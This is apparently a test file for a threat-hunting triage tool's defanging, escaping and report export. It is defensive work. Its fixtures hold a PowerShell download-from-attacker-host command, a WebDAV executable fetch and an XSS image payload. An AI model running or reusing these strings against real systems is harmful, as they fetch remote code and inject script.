import { describe, expect, it } from 'vitest';
import { createSession, hitRef, setNotes, setVerdict, toggleHostItem } from './model';
import { buildBundle } from './bundle';
import { exportFile } from './export';
import { codeSpan, escapeHtml, markdownText } from './report';
import { defang } from './defang';
import { DATASETS, HUNT, makeHit } from './testing';

const EVIL = 'powershell -c "iwr http://evil-one.trycloudflare.com/a.ps1" <img src=x onerror=alert(1)> `tick`';

function bundle() {
  const hits = [makeHit(1, { host: 'WS<1>', cmd: EVIL }), makeHit(2), makeHit(3)];
  let s = createSession({ hunt: HUNT, datasets: DATASETS, analyst: "o'brien", now: '2025-07-01T00:00:00.000Z' });
  s = setVerdict(s, [hitRef(hits[0])], 'malicious', "o'brien", '2025-07-01T01:00:00.000Z');
  s = setVerdict(s, [hitRef(hits[1])], 'benign', "o'brien", '2025-07-01T01:00:00.000Z');
  s = setNotes(s, [hitRef(hits[0])], 'see [link](http://x) & <b>', "o'brien", '2025-07-01T01:00:00.000Z');
  s = toggleHostItem(s, 'WS<1>', 0, "o'brien", '2025-07-01T02:00:00.000Z');
  return buildBundle({ session: s, hits, query: 'q', now: '2025-07-01T03:00:00.000Z' });
}

describe('defang', () => {
  it('defangs schemes, hostnames and IPs but leaves file names', () => {
    expect(defang('net use \\\\abc-def.trycloudflare.com@SSL\\DavWWWRoot\\x.exe')).toBe(
      'net use \\\\abc-def[.]trycloudflare[.]com@SSL\\DavWWWRoot\\x.exe',
    );
    expect(defang('HTTPS://1.2.3.4/a.ps1 http://a.b.example/c')).toBe('HXXPS://1[.]2[.]3[.]4/a.ps1 hxxp://a[.]b[.]example/c');
    expect(defang('cmd.exe /c start payload.bat')).toBe('cmd.exe /c start payload.bat');
  });
});

describe('Markdown summary', () => {
  it('has counts, hosts with worst verdict and progress, and defanged escalated hits', () => {
    const md = exportFile(bundle(), 'markdown').text;
    expect(md).toContain('# Hunt triage: Detection of Cloudflare Tunnel WebDAV Activity Across Multiple Processes');
    expect(md).toContain('| Malicious | 1 |');
    expect(md).toContain('| Benign | 1 |');
    expect(md).toContain('| Untriaged | 1 |');
    expect(md).toMatch(/\| `WS<1>` \| Malicious \| 1 \| Open \| 1 of 5 \|/);
    expect(md).toContain('### 1. Malicious on `WS<1>`');
    expect(md).toContain('hxxp://evil-one[.]trycloudflare[.]com/a.ps1');
    expect(md).not.toContain('http://evil');
    expect(md).toContain('- Notes: see \\[link\\]\\(http://x\\) & \\<b\\>');
    expect(md).toContain('- [ ] `WS<1>`: Analyze network connections');
    expect(md).toContain(`SHA-256 \`${'a'.repeat(64)}\``);
  });

  it('code spans survive backticks; analyst text cannot add markup', () => {
    expect(codeSpan('a`b')).toBe('``a`b``');
    expect(codeSpan('`x`')).toBe('`` `x` ``');
    expect(markdownText('*bold* <i>\nnext')).toBe('\\*bold\\* \\<i\\> next');
  });
});

describe('HTML report', () => {
  const html = exportFile(bundle(), 'html').text;

  it('carries its own CSP, has no script and no unescaped attacker text', () => {
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<b>');
    expect(html).toContain('&#60;img src=x onerror=alert(1)&#62;');
    expect(html).toContain('WS&#60;1&#62;');
    expect(html).toContain('o&#39;brien');
    expect(html).toContain('hxxp://evil-one[.]trycloudflare[.]com');
    expect(html).toContain('@media print');
    expect(html).toContain('1 of 5 done');
  });

  it('escapes all five characters', () => {
    expect(escapeHtml(`&<>"'`)).toBe('&#38;&#60;&#62;&#34;&#39;');
  });
});

describe('exportFile', () => {
  it('names files after hunt, analyst and time', () => {
    const f = exportFile(bundle(), 'bundle');
    expect(f.filename).toBe("triage-HuntQuery-Windows-Cloudflare-WebDAV-MultiProc-o-brien-2025-07-01T03-00-00-000Z.json");
    expect(f.mime).toBe('application/json');
    expect(exportFile(bundle(), 'csv').filename.endsWith('.csv')).toBe(true);
  });
});
